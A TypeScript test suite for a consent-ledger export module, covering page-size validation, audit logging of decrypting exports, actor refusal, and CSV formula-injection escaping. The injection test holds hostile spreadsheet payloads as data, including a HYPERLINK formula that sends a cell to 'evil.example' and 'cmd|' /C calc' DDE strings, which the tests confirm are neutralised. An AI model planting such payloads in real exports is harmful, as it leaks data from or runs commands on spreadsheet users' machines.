import { assert } from "@effect/vitest"
import type { Actor } from "@lawful/audit-trail/AuditEvent"
import * as AuditLog from "@lawful/audit-trail/AuditLog"
import type { SubjectId } from "@lawful/core/SubjectId"
import { contractSuite } from "@lawful/core/testing"
import * as Cause from "effect/Cause"
import * as Chunk from "effect/Chunk"
import * as Effect from "effect/Effect"
import * as Either from "effect/Either"
import * as Exit from "effect/Exit"
import * as Option from "effect/Option"
import * as Stream from "effect/Stream"
import type { Recorded } from "../src/ConsentEvent.js"
import * as ConsentExport from "../src/ConsentExport.js"
import { ConsentLedger } from "../src/ConsentLedger.js"
import type { ConsentLists } from "../src/ConsentLists.js"
import * as ConsentProof from "../src/ConsentProof.js"
import { grant, tenantWithLists, withdraw } from "./fixtures.js"
import { memory, sql } from "./layers.js"

const staff: Actor = { kind: "staff", id: "auditor-7" }

/** Any export, for the tests that run each alike. */
type AnyExport = Stream.Stream<unknown, { readonly _tag: string; readonly message: string }, ConsentLedger | ConsentLists>

// At most this many chunks of an export: a stream that pages for ever stops here, and fails the test.
const collect = <A, E, R>(stream: Stream.Stream<A, E, R>) =>
  Effect.map(Stream.runCollect(Stream.take(stream, 50)), Chunk.toReadonlyArray)

/** The records of an RFC 4180 text, each a list of its fields. */
const parseCsv = (text: string): ReadonlyArray<ReadonlyArray<string>> => {
  const records: Array<Array<string>> = []
  let record: Array<string> = []
  let field = ""
  let i = 0
  while (i < text.length) {
    if (text[i] === "\"") {
      i++
      while (true) {
        if (text[i] === "\"" && text[i + 1] === "\"") {
          field += "\""
          i += 2
        } else if (text[i] === "\"") {
          i++
          break
        } else {
          field += text[i++]
        }
      }
    } else if (text[i] === ",") {
      record.push(field)
      field = ""
      i++
    } else if (text[i] === "\r" && text[i + 1] === "\n") {
      record.push(field)
      records.push(record)
      record = []
      field = ""
      i += 2
    } else {
      field += text[i++]
    }
  }
  assert.strictEqual(field, "", "the text ends with CRLF")
  return records
}

/** The CSV export's rows, each by column name. */
const csvRows = (text: string) => {
  const [header, ...rows] = parseCsv(text)
  assert.deepStrictEqual(header, [...ConsentExport.csvColumns])
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])))
}

// Spreadsheets run a cell that starts with one of these as a formula (OWASP, CSV injection).
const formulaStart = /^[=+\-@\t\r]/

contractSuite("ConsentExport", { memory, sql }, (it) => {
  it.effect("an export refuses a page size that is not an integer from 1 to 10,000, before reading or auditing anything", () =>
    Effect.gen(function*() {
      const ledger = yield* ConsentLedger
      const log = yield* AuditLog.AuditLog
      const tenant = yield* tenantWithLists
      const granted = yield* ledger.record(tenant, grant("pages@example.com", ["news"]))
      yield* ledger.record(tenant, withdraw("pages@example.com", ["news"]))
      yield* ledger.record(tenant, grant("other.pages@example.com", ["news"]))
      const size = yield* log.size(tenant)
      const subject = granted.event.subject
      for (const pageSize of [0, -1, 1.5, Number.NaN, Infinity, -Infinity, 10_001, "2" as never]) {
        for (const options of [{ pageSize, actor: staff }, { pageSize, disclose: false as const }, { pageSize, subject, actor: staff }]) {
          const runs: ReadonlyArray<readonly [string, AnyExport]> = [
            ["events", ConsentExport.events(tenant, options)],
            ["csv", ConsentExport.csv(tenant, options)],
            ["json", ConsentExport.json(tenant, options)]
          ]
          for (const [name, stream] of runs) {
            const result = yield* Effect.either(collect(stream))
            const label = `${name}, pageSize ${String(pageSize)}`
            assert.isTrue(Either.isLeft(result), label)
            if (Either.isLeft(result)) {
              assert.strictEqual(result.left._tag, "ConsentRequestInvalid", label)
              assert.include(result.left.message, "pageSize", label)
            }
          }
        }
      }
      assert.strictEqual(yield* log.size(tenant), size)
      // The bounds themselves are pages like any other.
      const whole = (yield* collect(ConsentExport.csv(tenant, { actor: staff }))).join("")
      assert.strictEqual((yield* collect(ConsentExport.csv(tenant, { actor: staff, pageSize: 1 }))).join(""), whole)
      assert.strictEqual((yield* collect(ConsentExport.csv(tenant, { actor: staff, pageSize: 10_000 }))).join(""), whole)
      assert.strictEqual(csvRows(whole).length, 3)
    }))

  it.effect("a page of events with a limit that is not a positive integer is a defect on every store, not a page that differs by store", () =>
    Effect.gen(function*() {
      const ledger = yield* ConsentLedger
      const tenant = yield* tenantWithLists
      yield* ledger.record(tenant, grant("limit@example.com", ["news"]))
      yield* ledger.record(tenant, grant("limit.two@example.com", ["news"]))
      for (const limit of [0, -1, 1.5, Number.NaN, Infinity]) {
        const exit = yield* Effect.exit(ledger.events(tenant, { limit }))
        assert.isTrue(Exit.isFailure(exit) && Cause.isDie(exit.cause), String(limit))
      }
      assert.strictEqual((yield* ledger.events(tenant, { limit: 1 })).length, 1)
    }))

  it.effect("CSV cells an outsider writes (user agent, form id) that would start a formula are prefixed with a quote; JSON and proofs keep the exact values", () =>
    Effect.gen(function*() {
      const ledger = yield* ConsentLedger
      const tenant = yield* tenantWithLists
      const hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=1+1",
        "'plain"
      ]
      const safe = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0", "", " =1 with a leading space", "Agent, \"quoted\""]
      const recorded: Array<Recorded> = []
      for (const [i, userAgent] of [...hostile, ...safe].entries()) {
        recorded.push(yield* ledger.record(tenant, grant(`agent${i}@example.com`, ["news"], { userAgent })))
      }
      const formula = yield* ledger.record(
        tenant,
        grant("form@example.com", ["news"], { source: { type: "form", formId: "=cmd|' /C calc'!A0", formVersion: 1 } })
      )
      const rows = csvRows((yield* collect(ConsentExport.csv(tenant, { actor: staff }))).join(""))
      assert.strictEqual(rows.length, hostile.length + safe.length + 1)
      for (const [i, userAgent] of hostile.entries()) {
        const row = rows.find((r) => r.record_id === recorded[i]!.event.id)!
        assert.strictEqual(row.user_agent, `'${userAgent}`, JSON.stringify(userAgent))
      }
      for (const [i, userAgent] of safe.entries()) {
        const row = rows.find((r) => r.record_id === recorded[hostile.length + i]!.event.id)!
        assert.strictEqual(row.user_agent, userAgent, JSON.stringify(userAgent))
      }
      assert.strictEqual(rows.find((r) => r.record_id === formula.event.id)!.form_id, "'=cmd|' /C calc'!A0")
      // No cell of the export starts a formula, and the fields of fixed format are written as they are.
      for (const row of rows) {
        for (const [column, value] of Object.entries(row)) assert.notMatch(value, formulaStart, column)
      }
      const first = rows.find((r) => r.record_id === recorded[0]!.event.id)!
      assert.strictEqual(first.event_time, recorded[0]!.event.time.toISOString())
      assert.strictEqual(first.ip_address, "203.0.113.7")
      assert.strictEqual(first.event_sha256, recorded[0]!.hash)

      // The JSON export and the proofs carry the exact values.
      const records = JSON.parse((yield* collect(ConsentExport.json(tenant, { actor: staff }))).join(""))
      for (const [i, userAgent] of [...hostile, ...safe].entries()) {
        const record = records.find((r: { record_id: string }) => r.record_id === recorded[i]!.event.id)
        assert.strictEqual(record.evidence.user_agent, userAgent)
        const proof = yield* ledger.proof(tenant, recorded[i]!.event.id, { disclose: true, actor: staff })
        const verified = yield* ConsentProof.verifyJson(ConsentProof.toJson(proof), ledger.verifierKey)
        assert.deepStrictEqual(verified.userAgent, userAgent === "" ? Option.some("") : Option.some(userAgent))
      }
      assert.strictEqual(
        records.find((r: { record_id: string }) => r.record_id === formula.event.id).collection_method.form_id,
        "=cmd|' /C calc'!A0"
      )
    }))

  it.effect("an export that decrypts appends one audit entry (actor, subject, no IP or user agent); one that does not appends none", () =>
    Effect.gen(function*() {
      const ledger = yield* ConsentLedger
      const log = yield* AuditLog.AuditLog
      const tenant = yield* tenantWithLists
      const userAgent = "Mozilla/5.0 (Audited) Gecko/20100101"
      const a = yield* ledger.record(tenant, grant("audited.a@example.com", ["news"], { userAgent }))
      yield* ledger.record(tenant, grant("audited.b@example.com", ["news"], { ip: "198.51.100.77", userAgent }))
      yield* ledger.record(tenant, withdraw("audited.a@example.com", ["news"], { ip: "198.51.100.78" }))
      const subject = a.event.subject

      const itself: Actor = { kind: "subject" }
      const exports: ReadonlyArray<readonly [string, SubjectId | undefined, Actor, AnyExport]> = [
        ["csv", undefined, staff, ConsentExport.csv(tenant, { actor: staff, pageSize: 1 })],
        ["json", undefined, staff, ConsentExport.json(tenant, { actor: staff })],
        ["events", undefined, staff, ConsentExport.events(tenant, { actor: staff })],
        ["json", subject, itself, ConsentExport.json(tenant, { subject, actor: itself })],
        ["csv", subject, staff, ConsentExport.csv(tenant, { subject, actor: staff, pageSize: 1 })]
      ]
      for (const [format, named, actor, stream] of exports) {
        const before = yield* log.size(tenant)
        const output = yield* collect(stream)
        assert.isAbove(output.length, 0)
        assert.strictEqual(yield* log.size(tenant), before + 1, format)
        const entry = yield* log.entry(tenant, before)
        assert.strictEqual(entry.action, "consent.exported")
        assert.deepStrictEqual(entry.actor, actor)
        assert.deepStrictEqual(Option.map(entry.subject, (s) => s.id), Option.fromNullable(named))
        assert.deepStrictEqual(Option.getOrThrow(entry.details).value, {
          format,
          scope: named === undefined ? "tenant" : "subject",
          disclosed: ["ip_address", "user_agent"]
        })
        const text = JSON.stringify({ ...entry, leaf: undefined })
        for (const secret of ["203.0.113.7", "198.51.100.7", "Audited", "example.com"]) assert.notInclude(text, secret)
      }

      // Without decryption, no entry.
      const before = yield* log.size(tenant)
      const hidden = (yield* collect(ConsentExport.csv(tenant, { disclose: false }))).join("")
      assert.notInclude(hidden, "198.51.100.77")
      assert.strictEqual(csvRows(hidden).length, 3)
      yield* collect(ConsentExport.json(tenant, { disclose: false, subject }))
      assert.strictEqual(yield* log.size(tenant), before)
    }))

  it.effect("an export that would decrypt for a refused actor fails before it appends, reads or decrypts anything", () =>
    Effect.gen(function*() {
      const ledger = yield* ConsentLedger
      const log = yield* AuditLog.AuditLog
      const tenant = yield* tenantWithLists
      const a = yield* ledger.record(tenant, grant("refused@example.com", ["news"]))
      const before = yield* log.size(tenant)
      const refused: ReadonlyArray<readonly [string, unknown, boolean]> = [
        ["no actor", undefined, false],
        ["an empty id", { kind: "api-key", id: "" }, false],
        ["an id PostgreSQL cannot store", { kind: "staff", id: "staff\u00001" }, false],
        ["an unknown kind", { kind: "robot", id: "r" }, false],
        ["the subject, for the whole tenant", { kind: "subject" }, false],
        ["a subject filter that is not a subject id", { kind: "subject" }, true]
      ]
      for (const [label, actor, badSubject] of refused) {
        const options = { actor, ...(badSubject ? { subject: "not-a-subject" } : {}) } as never
        const streams: ReadonlyArray<AnyExport> = [
          ConsentExport.events(tenant, options),
          ConsentExport.csv(tenant, options),
          ConsentExport.json(tenant, options)
        ]
        for (const stream of streams) {
          const result = yield* Effect.either(collect(stream))
          assert.isTrue(Either.isLeft(result), label)
          if (Either.isLeft(result)) assert.strictEqual(result.left._tag, "ConsentRequestInvalid", label)
        }
      }
      assert.strictEqual(yield* log.size(tenant), before)
      // The subject itself may export its own events.
      const own = yield* collect(ConsentExport.json(tenant, { subject: a.event.subject, actor: { kind: "subject" } }))
      assert.include(own.join(""), "203.0.113.7")
    }))
})
